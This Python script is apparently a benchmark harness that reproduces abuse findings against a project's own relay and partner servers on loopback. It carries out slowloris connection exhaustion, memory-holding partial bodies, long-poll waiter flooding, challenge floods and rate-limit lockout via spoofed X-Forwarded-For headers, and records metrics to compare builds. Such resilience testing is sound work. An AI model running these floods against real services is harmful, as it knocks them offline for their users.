#!/usr/bin/python3
"""Attacks on latchkey-relay and latchkey-partner, for build-aux/bench-abuse.sh.

Each scenario reproduces one finding of "The relay and the partner under
attack and faults" and prints its figures as `key=value` lines on stdout, so
that the same scenario can be run against a baseline build and this one.

  lockout URL          creates from ever new addresses (X-Forwarded-For; the
                       relay runs with --trust-forwarded-for) until a newcomer
                       is refused, or a limit of requests or time
  slowloris URL        N connections from one source address that send a
                       header line every few seconds; /healthz, create and
                       read timed from another source address meanwhile
  partial-bodies URL   N connections that each send the headers of a 64 KiB
                       PUT and part of its body, then hold; the relay's
                       resident memory with them held and after they close
  waiters URL          A addresses park W waiting reads each; then a waiting
                       read from another address
  sigterm BINARY       a relay under keep-alive write traffic gets SIGTERM;
                       its exit status, and what the writers saw
  challenges URL       a partner client takes a challenge, N challenges are
                       requested by a flood, then the client uses its own

Standard library only.  Source addresses other than 127.0.0.1 are other
loopback addresses (127.0.0.0/8 all reach the loopback interface on Linux).
"""

import argparse
import asyncio
import base64
import collections
import ipaddress
import json
import os
import random
import resource
import signal
import statistics
import subprocess
import sys
import tempfile
import time
import uuid


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def out(**figures):
    for key, value in figures.items():
        print("%s=%s" % (key, value), flush=True)


def split_url(url):
    rest = url.split("://", 1)[1].rstrip("/")
    host, _, port = rest.rpartition(":")
    return host.strip("[]"), int(port)


def create_body(payload_bytes):
    data = base64.b64encode(os.urandom(max(30, payload_bytes * 3 // 4))).decode()
    return json.dumps({"payload": {"type": "AEAD_AES_256_GCM", "data": data},
                       "displayInformation": {"title": "abuse"}}).encode()


class Reply:
    def __init__(self, status, headers, body):
        self.status, self.headers, self.body = status, headers, body

    def error(self):
        try:
            return json.loads(self.body).get("error", "")
        except (ValueError, AttributeError):
            return "(not json)"


async def read_reply(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    headers = {}
    for line in lines[1:]:
        if ":" in line:
            k, _, v = line.partition(":")
            headers[k.strip().lower()] = v.strip()
    length = int(headers.get("content-length", "0"))
    body = await reader.readexactly(length) if length else b""
    return Reply(status, headers, body)


def request_bytes(method, path, body=b"", headers=()):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: relay"]
    lines += ["%s: %s" % h for h in headers]
    if body or method in ("POST", "PUT"):
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


class Client:
    """One keep-alive HTTP/1.1 connection, reconnecting when closed."""

    def __init__(self, host, port, source=None):
        self.host, self.port, self.source = host, port, source
        self.reader = self.writer = None

    async def request(self, method, path, body=b"", headers=(), timeout=10):
        for attempt in (1, 2):
            if self.writer is None:
                self.reader, self.writer = await asyncio.wait_for(asyncio.open_connection(
                    self.host, self.port, local_addr=(self.source, 0) if self.source else None), timeout)
            try:
                self.writer.write(request_bytes(method, path, body, headers))
                reply = await asyncio.wait_for(read_reply(self.reader), timeout)
                if reply.headers.get("connection", "").lower() == "close":
                    self.close()
                return reply
            except (ConnectionError, asyncio.IncompleteReadError):
                self.close()
                if attempt == 2:
                    raise

    def close(self):
        if self.writer is not None:
            self.writer.close()
        self.reader = self.writer = None


JSON = ("Content-Type", "application/json")


# ---------------------------------------------------------------------------
# lockout

def attacker_addresses(kind):
    n = 0
    while True:
        n += 1
        if kind == "ipv4":
            yield str(ipaddress.IPv4Address(0x0A000000 + n))            # 10.0.0.0/8
        elif kind == "ipv6-one-64":
            yield str(ipaddress.IPv6Address((0x20010db8000100000000000000000000) + n))
        else:  # ipv6-many-64: a new /64 each time, in 2001:db8:2::/48
            yield str(ipaddress.IPv6Address((0x20010db8000200000000000000000000) + (n << 64) + 1))


async def lockout(args):
    host, port = split_url(args.url)
    body = create_body(args.body_bytes)
    addresses = attacker_addresses(args.addresses)
    statuses = collections.Counter()
    sent = 0
    started = time.monotonic()
    locked = None
    newcomer = 0

    async def probe():
        nonlocal newcomer
        newcomer += 1
        client = Client(host, port)
        reply = await client.request("POST", "/v1/m", body,
                                     (JSON, ("Mailbox-Device-Claim", str(uuid.uuid4())),
                                      ("X-Forwarded-For", "198.51.%d.%d" % (newcomer // 250, newcomer % 250 + 1))))
        client.close()
        return reply

    async def worker():
        nonlocal sent
        client = Client(host, port)
        while locked is None and sent < args.max_requests and time.monotonic() - started < args.max_seconds:
            sent += 1
            try:
                reply = await client.request("POST", "/v1/m", body,
                                             (JSON, ("Mailbox-Device-Claim", str(uuid.uuid4())),
                                              ("X-Forwarded-For", next(addresses))))
                statuses["%d %s" % (reply.status, reply.error() if reply.status != 200 else "")] += 1
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                statuses["error"] += 1
        client.close()

    async def prober():
        nonlocal locked
        last = 0
        while sent < args.max_requests and time.monotonic() - started < args.max_seconds:
            await asyncio.sleep(0.2)
            if sent - last < args.probe_every and sent < args.max_requests:
                continue
            last = sent
            reply = await probe()
            if reply.status != 200:
                locked = (sent, time.monotonic() - started, reply.status, reply.error())
                return

    workers = [asyncio.ensure_future(worker()) for _ in range(args.concurrency)]
    await prober()
    await asyncio.gather(*workers)
    final = await probe()
    out(scenario="lockout", addresses=args.addresses, requests=sent,
        seconds="%.1f" % (time.monotonic() - started),
        attacker_statuses=";".join("%s:%d" % kv for kv in sorted(statuses.items())),
        newcomer_locked_out="yes" if locked else "no",
        locked_after_requests=locked[0] if locked else "-",
        locked_after_seconds="%.1f" % locked[1] if locked else "-",
        newcomer_refusal="%s %s" % (locked[2], locked[3]) if locked else "-",
        newcomer_final="%d %s" % (final.status, final.error() if final.status != 200 else "ok"))


# ---------------------------------------------------------------------------
# slowloris

async def slowloris(args):
    host, port = split_url(args.url)
    limit = raise_fd_limit()
    stats = collections.Counter()
    stop = asyncio.Event()
    open_now = 0
    peak = 0

    async def one():
        nonlocal open_now, peak
        while not stop.is_set():
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, local_addr=(args.source, 0)), 30)
            except (OSError, asyncio.TimeoutError):
                stats["connect_failed"] += 1
                await asyncio.sleep(1)
                continue
            stats["connected"] += 1
            open_now += 1
            peak = max(peak, open_now)
            try:
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: relay\r\n")
                n = 0
                while not stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(4096), args.interval)
                        if not data:
                            stats["closed_by_server"] += 1
                            break
                        stats["answered"] += 1
                        break
                    except asyncio.TimeoutError:
                        n += 1
                        writer.write(b"X-Slow-%d: x\r\n" % n)
            except OSError:
                stats["reset"] += 1
            finally:
                open_now -= 1
                writer.close()
            if not args.reconnect:
                return
            await asyncio.sleep(1)

    attackers = []
    for i in range(args.connections):
        attackers.append(asyncio.ensure_future(one()))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    await asyncio.sleep(args.settle)

    latencies = collections.defaultdict(list)
    failures = collections.Counter()
    started = time.monotonic()
    mailbox = None
    claim = str(uuid.uuid4())
    while time.monotonic() - started < args.duration:
        for name in ("healthz", "create", "read"):
            client = Client(host, port, args.probe_source)
            t0 = time.monotonic()
            try:
                if name == "healthz":
                    reply = await client.request("GET", "/healthz", timeout=args.probe_timeout)
                elif name == "create":
                    reply = await client.request("POST", "/v1/m", create_body(100),
                                                 (JSON, ("Mailbox-Device-Claim", claim)), timeout=args.probe_timeout)
                    if reply.status == 200:
                        mailbox = json.loads(reply.body)["urlLink"].split("/v1/m/")[1]
                elif mailbox is not None:
                    reply = await client.request("POST", "/v1/m/" + mailbox, b"",
                                                 (("Mailbox-Device-Claim", claim),), timeout=args.probe_timeout)
                else:
                    continue
                if reply.status >= 400:
                    failures["%s %d" % (name, reply.status)] += 1
                else:
                    latencies[name].append(time.monotonic() - t0)
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                failures["%s timeout" % name] += 1
            finally:
                client.close()
        await asyncio.sleep(args.probe_interval)

    stop.set()
    for task in attackers:
        task.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)

    def pct(values, p):
        if not values:
            return "-"
        values = sorted(values)
        return "%.1f" % (1000 * values[min(len(values) - 1, int(p * len(values)))])

    figures = dict(scenario="slowloris", fd_limit=limit, attacker_connections=args.connections,
                   attacker_peak_open=peak, attacker=";".join("%s:%d" % kv for kv in sorted(stats.items())),
                   probe_failures=";".join("%s:%d" % kv for kv in sorted(failures.items())) or "none")
    for name in ("healthz", "create", "read"):
        figures["%s_ok" % name] = len(latencies[name])
        figures["%s_p50_ms" % name] = pct(latencies[name], 0.5)
        figures["%s_max_ms" % name] = pct(latencies[name], 1.0)
    out(**figures)


# ---------------------------------------------------------------------------
# partial bodies

def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


async def partial_bodies(args):
    host, port = split_url(args.url)
    raise_fd_limit()
    writers = []
    stats = collections.Counter()
    base = rss_kib(args.pid)
    head_template = ("PUT /v1/m/%s HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n"
                     "Content-Length: %d\r\nMailbox-Device-Claim: %s\r\n\r\n")
    chunk = b"A" * args.sent

    async def one(i):
        source = "127.1.%d.%d" % (i // 250, i % 250 + 1) if args.sources > 1 else "127.0.0.1"
        if args.sources > 1 and i >= args.sources:
            source = "127.1.%d.%d" % ((i % args.sources) // 250, (i % args.sources) % 250 + 1)
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats["connect_failed"] += 1
            return
        writers.append((reader, writer))
        writer.write((head_template % (uuid.uuid4(), args.body, uuid.uuid4())).encode() + chunk)
        try:
            await asyncio.wait_for(writer.drain(), 30)
            stats["sent"] += 1
        except (OSError, asyncio.TimeoutError):
            stats["send_failed"] += 1

    for i in range(0, args.connections, 250):
        await asyncio.gather(*(one(j) for j in range(i, min(i + 250, args.connections))))
    await asyncio.sleep(args.settle)
    alive = 0
    answered = collections.Counter()
    for reader, writer in writers:
        try:
            data = await asyncio.wait_for(reader.read(200), 0.001)
            if data:
                answered[data.split(b" ")[1].decode()] += 1
            else:
                answered["closed"] += 1
        except asyncio.TimeoutError:
            alive += 1
        except OSError:
            answered["reset"] += 1
    held = rss_kib(args.pid)
    for _, writer in writers:
        writer.close()
    await asyncio.sleep(args.after)
    after = rss_kib(args.pid)
    out(scenario="partial-bodies", connections=args.connections, sources=args.sources,
        body_declared=args.body, body_sent=args.sent,
        client=";".join("%s:%d" % kv for kv in sorted(stats.items())),
        still_held=alive, answered_or_closed=";".join("%s:%d" % kv for kv in sorted(answered.items())) or "none",
        rss_before_mib="%.0f" % (base / 1024), rss_held_mib="%.0f" % (held / 1024),
        rss_after_close_mib="%.0f" % (after / 1024))


# ---------------------------------------------------------------------------
# waiters

async def waiters(args):
    host, port = split_url(args.url)
    raise_fd_limit()

    async def make_mailbox(address):
        c = Client(host, port)
        claim = str(uuid.uuid4())
        r = await c.request("POST", "/v1/m", create_body(100),
                            (JSON, ("Mailbox-Device-Claim", claim), ("X-Forwarded-For", address)))
        link = json.loads(r.body)["urlLink"].split("/v1/m/")[1]
        r = await c.request("POST", "/v1/m/" + link, b"", (("Mailbox-Device-Claim", claim), ("X-Forwarded-For", address)))
        c.close()
        return link, claim, r.headers["etag"]

    statuses = collections.Counter()
    held = []

    async def park(address, link, claim, etag, statuses=statuses):
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            statuses["connect_failed"] += 1
            return
        held.append(writer)
        writer.write(request_bytes("POST", "/v1/m/" + link, b"",
                                   (("Mailbox-Device-Claim", claim), ("If-None-Match", etag),
                                    ("Prefer", "wait=30"), ("X-Forwarded-For", address))))
        try:
            reply = await asyncio.wait_for(read_reply(reader), 3)
            statuses["%d %s" % (reply.status, reply.error())] += 1
        except asyncio.TimeoutError:
            statuses["parked"] += 1
        except (OSError, asyncio.IncompleteReadError):
            statuses["closed"] += 1

    async def address_attack(a):
        # At the relay's default rate (a burst, then so many a second), all
        # parked within the 30 s a waiting read lasts.
        address = "10.9.%d.%d" % (a // 250, a % 250 + 1)
        link, claim, etag = await make_mailbox(address)
        parks = []
        for i in range(args.per_address):
            if i >= args.burst:
                await asyncio.sleep(1 / args.rate)
            parks.append(asyncio.ensure_future(park(address, link, claim, etag)))
        await asyncio.gather(*parks)

    newcomer = await make_mailbox("198.51.100.99")
    probes = collections.Counter()
    attacking = True

    async def prober():
        # A waiting read from an address of its own, once a second while the
        # attack goes on: parked is what it should be.
        while attacking:
            await asyncio.sleep(1)
            await park("198.51.100.99", *newcomer, statuses=probes)

    probe_task = asyncio.ensure_future(prober())
    await asyncio.gather(*(address_attack(a) for a in range(args.addresses)))
    metrics = Client(host, port)
    try:
        text = (await metrics.request("GET", "/metrics")).body.decode()
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
        text = ""
    metrics.close()
    gauge = [l.split()[-1] for l in text.splitlines() if l.startswith("latchkey_relay_waiters ")]
    attacking = False
    await probe_task
    for writer in held:
        writer.close()
    out(scenario="waiters", attacker_addresses=args.addresses, per_address=args.per_address,
        attackers=";".join("%s:%d" % kv for kv in sorted(statuses.items())),
        relay_waiters_gauge_at_end=gauge[0] if gauge else "-",
        newcomer_waiting_reads=";".join("%s:%d" % kv for kv in sorted(probes.items())))


# ---------------------------------------------------------------------------
# sigterm

async def sigterm_run(args, run):
    data = tempfile.mkdtemp(prefix="latchkey-abuse-")
    cmd = [args.binary, "--port", "0", "--data-dir", data, "--rate", "0", "--max-mailboxes-per-client", "0"]
    proc = await asyncio.create_subprocess_exec(*cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    line = (await proc.stdout.readline()).decode()
    host, port = split_url(line.split()[-1])
    acknowledged = []
    outcomes = collections.Counter()
    stopping = asyncio.Event()

    async def writer():
        client = Client(host, port)
        claim = str(uuid.uuid4())
        while True:
            try:
                reply = await client.request("POST", "/v1/m", create_body(2000),
                                             (JSON, ("Mailbox-Device-Claim", claim)), timeout=20)
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                outcomes["connection lost" if stopping.is_set() else "error before stop"] += 1
                return
            if reply.status == 200:
                acknowledged.append((json.loads(reply.body)["urlLink"].split("/v1/m/")[1], claim))
            elif stopping.is_set():
                outcomes["%d %s" % (reply.status, reply.error())] += 1
                return
            else:
                outcomes["%d before stop" % reply.status] += 1

    tasks = [asyncio.ensure_future(writer()) for _ in range(args.writers)]
    await asyncio.sleep(args.traffic_seconds)
    stopping.set()
    t0 = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    try:
        await asyncio.wait_for(proc.wait(), 30)
    except asyncio.TimeoutError:
        proc.kill()
        await proc.wait()
    stop_seconds = time.monotonic() - t0
    await asyncio.gather(*tasks, return_exceptions=True)
    stderr = (await proc.stderr.read()).decode(errors="replace")
    status = proc.returncode

    # Every acknowledged create is there after a restart.
    proc = await asyncio.create_subprocess_exec(cmd[0], "--port", str(port), *cmd[3:], stdout=subprocess.PIPE,
                                                stderr=subprocess.DEVNULL)
    await proc.stdout.readline()
    missing = 0
    client = Client(host, port)
    for link, claim in acknowledged:
        reply = await client.request("POST", "/v1/m/" + link, b"", (("Mailbox-Device-Claim", claim),))
        missing += reply.status != 200
    client.close()
    proc.send_signal(signal.SIGTERM)
    await proc.wait()
    subprocess.run(["rm", "-rf", data])
    abort = [l for l in stderr.splitlines() if "suspended" in l or "abort" in l.lower()]
    return status, stop_seconds, len(acknowledged), missing, outcomes, abort


async def sigterm(args):
    results = []
    for run in range(args.runs):
        status, seconds, acked, missing, outcomes, abort = await sigterm_run(args, run)
        results.append(status)
        out(**{"run%d_exit" % run: status if status >= 0 else "signal %d" % -status,
               "run%d_stop_seconds" % run: "%.2f" % seconds,
               "run%d_acknowledged" % run: acked, "run%d_missing_after_restart" % run: missing,
               "run%d_in_flight" % run: ";".join("%s:%d" % kv for kv in sorted(outcomes.items())) or "none",
               "run%d_log" % run: (abort[0][:120] if abort else "-")})
    out(scenario="sigterm", runs=args.runs, exit_statuses=",".join(str(s) for s in results))


# ---------------------------------------------------------------------------
# partner challenges

async def challenges(args):
    host, port = split_url(args.url)
    raise_fd_limit()
    client = Client(host, port, args.probe_source)
    mine = json.loads((await client.request("POST", "/v1/challenges")).body)["challenge"]
    statuses = collections.Counter()
    started = time.monotonic()

    async def flood(n):
        c = Client(host, port)
        for _ in range(n):
            try:
                r = await c.request("POST", "/v1/challenges")
                statuses[r.status] += 1
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                statuses["error"] += 1
        c.close()

    per = args.count // args.concurrency
    await asyncio.gather(*(flood(per) for _ in range(args.concurrency)))
    seconds = time.monotonic() - started
    body = json.dumps({"accessPointId": str(uuid.uuid4()), "action": "open", "challenge": mine,
                       "accessToken": base64.urlsafe_b64encode(os.urandom(32)).decode().rstrip("=")}).encode()
    reply = await client.request("POST", "/v1/access", body, (JSON,))
    client.close()
    # 404 unknown_access_point: the challenge was still there; 403 bad_challenge: it was evicted.
    out(scenario="challenges", flood=per * args.concurrency, flood_seconds="%.2f" % seconds,
        flood_statuses=";".join("%s:%d" % kv for kv in sorted(statuses.items(), key=str)),
        own_challenge="kept" if reply.error() != "bad_challenge" else "evicted",
        own_reply="%d %s" % (reply.status, reply.error()))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="scenario", required=True)

    p = sub.add_parser("lockout")
    p.add_argument("url")
    p.add_argument("--addresses", choices=("ipv4", "ipv6-one-64", "ipv6-many-64"), default="ipv4")
    p.add_argument("--concurrency", type=int, default=32)
    p.add_argument("--max-requests", type=int, default=150000)
    p.add_argument("--max-seconds", type=float, default=120)
    p.add_argument("--body-bytes", type=int, default=100)
    p.add_argument("--probe-every", type=int, default=1000)

    p = sub.add_parser("slowloris")
    p.add_argument("url")
    p.add_argument("--connections", type=int, default=12500)
    p.add_argument("--source", default="127.0.0.1")
    p.add_argument("--probe-source", default="127.0.0.2")
    p.add_argument("--interval", type=float, default=10)
    p.add_argument("--settle", type=float, default=15)
    p.add_argument("--duration", type=float, default=30)
    p.add_argument("--probe-interval", type=float, default=0.5)
    p.add_argument("--probe-timeout", type=float, default=5)
    p.add_argument("--reconnect", action="store_true")

    p = sub.add_parser("partial-bodies")
    p.add_argument("url")
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--connections", type=int, default=7500)
    p.add_argument("--sources", type=int, default=1)
    p.add_argument("--body", type=int, default=65536)
    p.add_argument("--sent", type=int, default=60000)
    p.add_argument("--settle", type=float, default=2)
    p.add_argument("--after", type=float, default=5)

    p = sub.add_parser("waiters")
    p.add_argument("url")
    p.add_argument("--addresses", type=int, default=18)
    p.add_argument("--per-address", type=int, default=600)
    p.add_argument("--rate", type=float, default=20)
    p.add_argument("--burst", type=int, default=90)

    p = sub.add_parser("sigterm")
    p.add_argument("binary")
    p.add_argument("--runs", type=int, default=5)
    p.add_argument("--writers", type=int, default=16)
    p.add_argument("--traffic-seconds", type=float, default=2)

    p = sub.add_parser("challenges")
    p.add_argument("url")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--concurrency", type=int, default=50)
    p.add_argument("--probe-source", default="127.0.0.2")

    args = parser.parse_args()
    scenario = {"lockout": lockout, "slowloris": slowloris, "partial-bodies": partial_bodies,
                "waiters": waiters, "sigterm": sigterm, "challenges": challenges}[args.scenario]
    asyncio.run(scenario(args))


if __name__ == "__main__":
    main()
